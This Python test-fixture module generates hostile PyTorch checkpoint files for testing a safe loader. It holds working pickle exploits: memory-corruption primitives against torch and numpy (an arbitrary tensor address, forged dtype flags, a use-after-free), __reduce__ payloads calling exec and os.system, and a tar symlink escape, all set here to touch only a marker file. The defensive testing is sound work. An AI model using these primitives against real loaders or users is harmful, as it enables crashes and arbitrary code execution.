"""Hostile checkpoint files, generated on the fly (no binaries are shipped).

Every builder returns the bytes of a pickle, written opcode by opcode where ``pickle.dumps`` could not
produce it, or writes a whole file. ``HOSTILE`` lists the files the tests feed to the loader and to a
real server; each entry says what the refusal must name.

The three memory-corruption primitives are the ones a review found in the old hand-written unpickler:

* ``NEWOBJ_EX`` passing keyword arguments to an allowed class: ``torch.Tensor(cdata=<int>)`` wraps an
  arbitrary address as a tensor, ``UntypedStorage(64, allocator=<int>)`` calls through one;
* a numpy dtype rebuilt with forged flags (``NPY_ITEM_HASOBJECT`` and friends on a ``V8`` dtype), so
  ``numpy.core.multiarray.scalar`` treats the file's raw bytes as object pointers;
* ``BUILD`` run a second time on a numpy array after ``torch._utils._rebuild_device_tensor_from_numpy``
  has wrapped its buffer: numpy frees the buffer, the tensor keeps pointing at it (use after free).

Under plain ``pickle`` each of them kills the process with SIGSEGV (see the control tests).
"""
from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path

# ----------------------------------------------------------------------------------- opcodes

PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"
MARK, STOP, TUPLE, SETITEM, SETITEMS, REDUCE, BUILD, POP = b"(", b".", b"t", b"s", b"u", b"R", b"b", b"0"
EMPTY_DICT, EMPTY_TUPLE, NONE, TRUE, FALSE = b"}", b")", b"N", b"\x88", b"\x89"
TUPLE1, TUPLE2, TUPLE3 = b"\x85", b"\x86", b"\x87"
NEWOBJ_EX = b"\x92"


def glob(module: str, name: str) -> bytes:
    """GLOBAL: the one global opcode torch's weights-only unpickler understands."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def text(value: str) -> bytes:
    raw = value.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def integer(value: int) -> bytes:
    if -(1 << 31) <= value < (1 << 31):
        return b"J" + struct.pack("<i", value)
    return b"\x8a\x08" + struct.pack("<q", value)


def raw_bytes(data: bytes) -> bytes:
    """bytes the way protocol 2 stores them: _codecs.encode(<latin-1 str>, "latin1")."""
    return glob("_codecs", "encode") + text(data.decode("latin-1")) + text("latin1") + TUPLE2 + REDUCE


def put(i: int) -> bytes:
    return b"q" + bytes([i])


def get(i: int) -> bytes:
    return b"h" + bytes([i])


def checkpoint_dict(value: bytes, key: str = "weight") -> bytes:
    """{"state_dict": {key: <value>}} around one hostile value."""
    return EMPTY_DICT + text("state_dict") + EMPTY_DICT + text(key) + value + SETITEM + SETITEM


# ----------------------------------------------------------------------------------- primitives

BAD_ADDRESS = 0x4141414141


def tensor_cdata() -> bytes:
    """torch.Tensor.__new__(torch.Tensor, cdata=0x4141414141) via NEWOBJ_EX."""
    value = glob("torch", "Tensor") + EMPTY_TUPLE + EMPTY_DICT + text("cdata") + integer(BAD_ADDRESS) + SETITEM + NEWOBJ_EX
    return PROTO4 + checkpoint_dict(value) + STOP


def storage_allocator() -> bytes:
    """torch.storage.UntypedStorage(64, allocator=0x4141414141) via NEWOBJ_EX."""
    value = (glob("torch.storage", "UntypedStorage") + integer(64) + TUPLE1
             + EMPTY_DICT + text("allocator") + integer(BAD_ADDRESS) + SETITEM + NEWOBJ_EX)
    return PROTO4 + checkpoint_dict(value) + STOP


def numpy_dtype(code: str, state: tuple[bytes, ...]) -> bytes:
    """numpy.dtype(code, False, True) followed by BUILD with a hand-written state tuple."""
    return glob("numpy", "dtype") + text(code) + FALSE + TRUE + TUPLE3 + REDUCE + MARK + b"".join(state) + TUPLE + BUILD


def plain_dtype_state(byteorder: str = "<", flags: int = 0, elsize: int = -1, alignment: int = -1) -> tuple[bytes, ...]:
    return integer(3), text(byteorder), NONE, NONE, NONE, integer(elsize), integer(alignment), integer(flags)


FORGED_FLAGS = 0x3d  # NPY_ITEM_HASOBJECT | NPY_ITEM_IS_POINTER | NPY_NEEDS_INIT | NPY_NEEDS_PYAPI | NPY_USE_GETITEM


def numpy_scalar(code: str, state: tuple[bytes, ...], data: bytes, module: str = "numpy._core.multiarray") -> bytes:
    return glob(module, "scalar") + numpy_dtype(code, state) + raw_bytes(data) + TUPLE2 + REDUCE


def forged_dtype() -> bytes:
    """numpy scalar of a V8 dtype whose pickled flags claim it holds object pointers."""
    value = numpy_scalar("V8", plain_dtype_state("|", FORGED_FLAGS, elsize=8, alignment=1), BAD_ADDRESS.to_bytes(8, "little"))
    return PROTO2 + EMPTY_DICT + text("state_dict") + EMPTY_DICT + SETITEM + text("best_model_score") + value + SETITEM + STOP


def numpy_use_after_free(size: int = 1 << 21) -> bytes:
    """A tensor over a numpy array's buffer, then BUILD on the array again: numpy frees the buffer.

    The buffer is larger than glibc's mmap threshold, so it is unmapped when freed and the tensor's
    next read faults at once instead of reading recycled heap memory.
    """
    u1 = plain_dtype_state("|")
    array = (glob("numpy._core.multiarray", "_reconstruct") + glob("numpy", "ndarray") + integer(0) + TUPLE1
             + raw_bytes(b"b") + TUPLE3 + REDUCE + put(0))
    state1 = MARK + integer(1) + integer(size) + TUPLE1 + numpy_dtype("u1", u1) + FALSE + raw_bytes(b"A" * size) + TUPLE + BUILD
    tensor = (glob("torch._utils", "_rebuild_device_tensor_from_numpy") + MARK + array + state1
              + glob("torch", "uint8") + text("cpu") + FALSE + TUPLE + REDUCE + put(1))
    rebuild = get(0) + MARK + integer(1) + integer(1) + TUPLE1 + numpy_dtype("u1", u1) + FALSE + raw_bytes(b"B") + TUPLE + BUILD + POP
    return PROTO2 + EMPTY_DICT + text("state_dict") + EMPTY_DICT + text("weight") + tensor + SETITEM + rebuild + SETITEM + STOP


PRIMITIVES = {
    "tensor_cdata": (tensor_cdata, "opcode NEWOBJ_EX"),
    "storage_allocator": (storage_allocator, "opcode NEWOBJ_EX"),
    "forged_numpy_dtype": (forged_dtype, "numpy.core.multiarray.scalar"),
    "numpy_use_after_free": (numpy_use_after_free, "numpy._core.multiarray._reconstruct"),
}


# ----------------------------------------------------------------------------------- code execution

class Reduce:
    """Pickles as ``func(*args)``: the classic pickle code-execution payload."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def marker_code(marker: Path) -> str:
    """Python source that creates ``marker``: what every payload runs if it ever runs."""
    return f"open({str(marker)!r}, 'w').close()"


def exec_payload(marker: Path) -> Reduce:
    import builtins
    return Reduce(builtins.exec, marker_code(marker))


def system_payload(marker: Path) -> Reduce:
    import os
    return Reduce(os.system, f"touch '{marker}'")


def payload_pickle(marker: Path, protocol: int = 2, kind: str = "exec") -> bytes:
    payload = exec_payload(marker) if kind == "exec" else system_payload(marker)
    return pickle.dumps({"state_dict": {}, "epoch": 1, "evil": payload}, protocol=protocol)


# ----------------------------------------------------------------------------------- containers

def write_raw(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def write_torch_zip(path: Path, data_pkl: bytes, archive: str = "archive") -> Path:
    """torch.save's zip layout around a hand-written data.pkl."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{archive}/data.pkl", data_pkl)
        z.writestr(f"{archive}/byteorder", "little")
        z.writestr(f"{archive}/version", "3\n")
    return path


def _add(tar: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def _sys_info() -> bytes:
    return pickle.dumps({"protocol_version": 1001, "little_endian": True,
                         "type_sizes": {"short": 2, "int": 4, "long": 8}}, protocol=2)


def write_legacy_tar(path: Path, marker: Path) -> Path:
    """PyTorch's legacy .tar checkpoint format (sys_info, pickle, storages, tensors members) whose
    ``pickle`` member carries a payload."""
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        _add(tar, "sys_info", _sys_info())
        _add(tar, "storages", pickle.dumps(0, protocol=2))
        _add(tar, "tensors", pickle.dumps(0, protocol=2))
        _add(tar, "pickle", payload_pickle(marker))
    return path


def write_tar_with_symlink(path: Path, outside: Path, marker: Path) -> Path:
    """A legacy .tar checkpoint whose ``storages`` member is a symlink to ``outside``, a file elsewhere
    on disk that holds a payload pickle: extracting the member and opening it runs the payload."""
    outside.write_bytes(pickle.dumps(exec_payload(marker), protocol=2))
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        _add(tar, "sys_info", _sys_info())
        link = tarfile.TarInfo("storages")
        link.type = tarfile.SYMTYPE
        link.linkname = str(outside)
        tar.addfile(link)
        _add(tar, "tensors", pickle.dumps(0, protocol=2))
        _add(tar, "pickle", pickle.dumps({"state_dict": {}}, protocol=2))
    return path


def write_hostile_files(folder: Path, marker: Path) -> dict[str, str]:
    """Every hostile checkpoint in ``folder``: {file name: what its refusal names}."""
    folder.mkdir(parents=True, exist_ok=True)
    expected: dict[str, str] = {}
    for name, (build, names) in PRIMITIVES.items():
        write_raw(folder / f"{name}-raw.ckpt", build())
        write_torch_zip(folder / f"{name}-zip.ckpt", build())
        expected[f"{name}-raw.ckpt"] = expected[f"{name}-zip.ckpt"] = names
    write_raw(folder / "reduce-exec-raw.ckpt", payload_pickle(marker))
    write_torch_zip(folder / "reduce-exec-zip.ckpt", payload_pickle(marker))
    write_torch_zip(folder / "reduce-system-zip.ckpt", payload_pickle(marker, kind="system"))
    write_raw(folder / "reduce-exec-protocol5.ckpt", payload_pickle(marker, protocol=5))
    expected.update({"reduce-exec-raw.ckpt": "builtins.exec", "reduce-exec-zip.ckpt": "builtins.exec",
                     "reduce-system-zip.ckpt": "posix.system", "reduce-exec-protocol5.ckpt": "opcode FRAME"})
    write_legacy_tar(folder / "legacy-tar.ckpt", marker)
    write_tar_with_symlink(folder / "tar-symlink.ckpt", folder.parent / "outside-payload.bin", marker)
    expected["legacy-tar.ckpt"] = expected["tar-symlink.ckpt"] = "legacy .tar format"
    return expected
